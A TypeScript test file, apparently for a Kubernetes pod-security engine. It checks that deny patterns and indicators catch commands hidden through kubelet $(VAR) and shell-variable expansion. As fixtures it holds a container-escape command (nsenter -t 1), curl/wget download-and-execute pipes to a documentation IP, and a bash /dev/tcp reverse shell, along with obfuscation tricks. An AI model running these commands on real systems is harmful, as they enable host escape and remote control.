import { expect } from 'chai';
import {
  expandKubelet,
  literalEnv,
  runtimeArgv,
  substituteShellVars,
} from '../../../src/engine/rules/container-env.ts';
import { commandRules } from '../../../src/engine/rules/commands.ts';
import { indicatorRules } from '../../../src/engine/rules/indicators.ts';
import { compileSafeRegex } from '../../../src/engine/safe-regex.ts';
import { podJson, view, type Json } from '../builders.ts';
import { judge } from './judge.ts';

const env = (o: Record<string, string>) => new Map(Object.entries(o));

describe('kubelet $(VAR) expansion', () => {
  const lookup = (n: string): string | undefined => ({ A: 'nsenter', B: 'x' })[n];
  const cases: [string, string][] = [
    ['$(A)', 'nsenter'],
    ['pre-$(A)-post', 'pre-nsenter-post'],
    ['$(A)$(B)', 'nsenterx'],
    ['$$(A)', '$(A)'], // `$$` escapes the operator
    ['$$$(A)', '$nsenter'],
    ['$(UNDEFINED)', '$(UNDEFINED)'], // an undefined name stays as written
    ['$(A', '$(A'], // an incomplete reference is kept
    ['$A', '$A'], // not kubelet syntax
    ['$', '$'],
    ['a$', 'a$'],
    ['$()', '$()'],
  ];
  for (const [input, want] of cases)
    it(`${JSON.stringify(input)} -> ${JSON.stringify(want)}`, () => {
      expect(expandKubelet(input, lookup)).to.equal(want);
    });

  it('expands env values against earlier entries only; valueFrom makes a name unknowable', () => {
    const e = literalEnv([
      { name: 'A', value: 'ns' },
      { name: 'B', value: '$(A)enter' },
      { name: 'C', value: '$(D)' },
      { name: 'D', value: 'late' },
      { name: 'A' }, // redefined by valueFrom: unknown from here on
      { name: 'E', value: '$(A)' },
    ]);
    expect(Object.fromEntries(e)).to.deep.equal({ B: 'nsenter', C: '$(D)', D: 'late', E: '$(A)' });
  });

  it('runtimeArgv expands command and args, and leaves a container without env as it is', () => {
    const pod = view(
      podJson({
        containers: [
          {
            name: 'c',
            image: 'i',
            command: ['$(A)', '-t', '1'],
            args: ['$(B)'],
            env: [
              { name: 'A', value: 'nsenter' },
              { name: 'B', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
            ],
          },
          { name: 'd', image: 'i', command: ['$(A)'] },
        ],
      }),
    );
    const [c, d] = pod.spec.containers;
    expect(runtimeArgv(c!)).to.deep.equal({ command: ['nsenter', '-t', '1'], args: ['$(B)'] });
    expect(runtimeArgv(d!)).to.equal(d);
  });
});

describe('shell variable substitution', () => {
  const cases: [string, Record<string, string>, string][] = [
    ['sh -c $P', { P: 'curl x | sh' }, 'sh -c curl x | sh'],
    ['sh -c "${P}"', { P: 'curl x' }, 'sh -c "curl x"'],
    ['$C | sh', { C: 'curl x' }, 'curl x | sh'],
    ['echo $UNSET ${UNSET} $1 $$', {}, 'echo $UNSET ${UNSET} $1 $$'],
    ['c=cu; ${c}rl x | sh', {}, 'c=cu; curl x | sh'],
    ['${c}rl x; c=cu', {}, '${c}rl x; c=cu'], // an assignment covers only what follows it
    ['${P', { P: 'x' }, '${P'],
  ];
  for (const [text, vars, want] of cases)
    it(`${JSON.stringify(text)} -> ${JSON.stringify(want)}`, () => {
      expect(substituteShellVars(text, env(vars))).to.equal(want);
    });
});

function pod(command: string[], args: string[] = [], envVars: Json[] = []) {
  return view(podJson({ containers: [{ name: 'c', image: 'i', command, args, env: envVars }] }));
}

describe('payloads hidden in the environment', () => {
  const nsenter = [
    {
      source: 'nsenter\\s+-t\\s*1',
      regex: (compileSafeRegex('nsenter\\s+-t\\s*1') as { ok: true; regex: never }).regex,
    },
  ];

  it('deniedPatterns see what the kubelet runs: $(A) with A=nsenter', () => {
    const p = pod(['$(A)', '-t', '1', '-m', 'sh'], [], [{ name: 'A', value: 'nsenter' }]);
    const f = judge(commandRules, p, nsenter);
    expect(f.map((x) => x.rule)).to.deep.equal(['command.denied']);
    expect(f[0]?.path).to.equal('spec.containers[0].command');
  });

  it("deniedPatterns see words as the shell reads them: nsen''ter and ${c}rl-style concatenation", () => {
    expect(judge(commandRules, pod(['sh', '-c', "nsen''ter -t 1 -m sh"]), nsenter)).to.have.length(
      1,
    );
    expect(
      judge(commandRules, pod(['sh', '-c', 'a=nsen; ${a}ter -t 1 -m sh']), nsenter),
    ).to.have.length(1);
    expect(
      judge(
        commandRules,
        pod(['sh', '-c', '${N}ter -t 1'], [], [{ name: 'N', value: 'nsen' }]),
        nsenter,
      ),
    ).to.have.length(1);
  });

  it('indicators see sh -c "$P" with the payload in env P, and $C | sh with the download in env C', () => {
    const p1 = pod(
      ['sh', '-c', '"$P"'],
      [],
      [{ name: 'P', value: 'curl -s http://203.0.113.9/x | sh' }],
    );
    expect(judge(indicatorRules, p1, true).map((f) => f.rule)).to.include('indicator.downloadExec');
    const p2 = pod(
      ['sh', '-c', '$C | sh'],
      [],
      [{ name: 'C', value: 'wget -qO- http://203.0.113.9/x' }],
    );
    expect(judge(indicatorRules, p2, true).map((f) => f.rule)).to.include('indicator.downloadExec');
    const p3 = pod(
      ['$(S)', '-i', '>&', '/dev/tcp/203.0.113.9/4444', '0>&1'],
      [],
      [{ name: 'S', value: 'bash' }],
    );
    expect(judge(indicatorRules, p3, true).map((f) => f.rule)).to.include('indicator.reverseShell');
  });

  it('a value from a Secret stays unknown: nothing is invented', () => {
    const p = pod(
      ['sh', '-c', '"$P"'],
      [],
      [{ name: 'P', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }],
    );
    expect(judge(indicatorRules, p, true)).to.deep.equal([]);
  });
});
